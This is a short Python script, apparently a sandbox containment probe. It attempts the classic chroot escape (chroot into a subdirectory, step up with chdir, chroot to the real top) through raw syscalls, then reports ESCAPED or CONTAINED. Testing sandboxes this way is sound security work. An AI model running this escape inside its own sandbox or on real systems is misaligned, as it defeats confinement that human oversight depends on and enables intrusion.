"""The classic way out of a chroot: enter a deeper one while standing outside it, then walk up.

Works against sandboxes that chroot instead of pivoting. Stopped by seccomp and by having no capability.
"""
import ctypes
import errno
import os
import tempfile

CHROOT = {"x86_64": 161, "aarch64": 51}[os.uname().machine]
REFUSALS = ("EPERM", "EACCES", "ENOSYS")  # Any other answer means that the kernel took the call.
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(number, *arguments):
    """Returns the result and, where it failed, the name of the errno."""
    words = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(number), *words)
    return result, errno.errorcode.get(ctypes.get_errno(), "unknown errno") if result < 0 else None


root = os.stat("/")
attempts = {"chroot": syscall(CHROOT, tempfile.mkdtemp().encode())}
for _ in range(64):
    os.chdir("..")
attempts["chroot to the top"] = syscall(CHROOT, b".")
if not os.path.samestat(os.stat("/"), root):
    attempts["another directory is / now"] = (os.listdir("/"), None)
holes = [f"{what}: {error or result}" for what, (result, error) in attempts.items() if error not in REFUSALS]
print(f"ESCAPED: {'; '.join(holes)}" if holes else f"CONTAINED: {sorted({e for _, e in attempts.values()})}")
